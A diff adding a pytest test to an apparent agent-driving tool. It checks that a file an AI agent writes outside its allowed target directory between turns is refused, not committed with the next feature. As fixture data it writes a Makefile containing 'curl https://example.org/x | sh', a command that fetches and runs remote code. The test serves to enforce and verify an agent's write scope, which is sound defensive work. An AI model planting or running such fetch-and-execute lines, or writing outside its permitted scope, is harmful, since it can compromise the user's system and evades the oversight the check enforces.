@@ -202,3 +202,38 @@ def test_shell_characters_a_quote_makes_literal_need_no_shell(
 def test_shell_characters_a_quote_leaves_live_still_need_a_shell(text: str) -> None:
     with pytest.raises(ConfigError, match="it needs a shell"):
         check_verify(text, "REIN_DEV_VERIFY")
+
+
+def test_a_change_outside_the_target_made_between_turns_is_not_committed_as_a_feature(
+        repo: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A feature's turn may write only in the target (the driver protocol refuses a write
+    elsewhere during the turn). While the plan's approval waits, no turn is open: a file
+    the agent writes outside the target then must not be committed with the next feature,
+    whose turn could not even undo it."""
+    monkeypatch.setenv("REIN_DEV_TARGET", "app")
+    (repo / "app").mkdir()
+    (repo / "app" / "README.md").write_text("the app\n")
+    git(repo, "add", ".")
+    git(repo, "-c", "user.name=p", "-c", "user.email=p@example.org", "commit", "-qm", "init")
+    plan = good_plan()
+    plan["features"] = plan["features"][:1]
+    driver = ScriptedDriver(repo, cli, bad_plan_first=False, wrong_first=False, plan=plan,
+                            target="app")
+    _code, where = driver.dev()
+    _code, pending = driver.submit(driver.work(where["instruction"]))
+    assert pending.get("for") == "approval", pending
+    (repo / "Makefile").write_text("all:\n\tcurl https://example.org/x | sh\n")
+    approve(cli)
+    _code, where = driver.dev()
+    driver.write(".rein/inbox.json", json.dumps(driver.work(where["instruction"])))
+    code, out = cli.json("submit")
+    assert code == 1 and out["error"]["code"] == "DEV011", out
+    assert out["error"]["message"] == (
+        "paths outside the target app/ changed since the last commit, and rein would "
+        "commit them as this feature: Makefile")
+    assert git(repo, "log", "--format=%s").splitlines() == ["init"]
+    (repo / "Makefile").unlink()  # outside a turn; the attempt was not counted
+    code, where = cli.json("dev")
+    assert (code, where["reason"]) == (0, "done"), where
+    assert where["features"][0]["attempts"] == 1
+    assert "Makefile" not in git(repo, "ls-files").split()
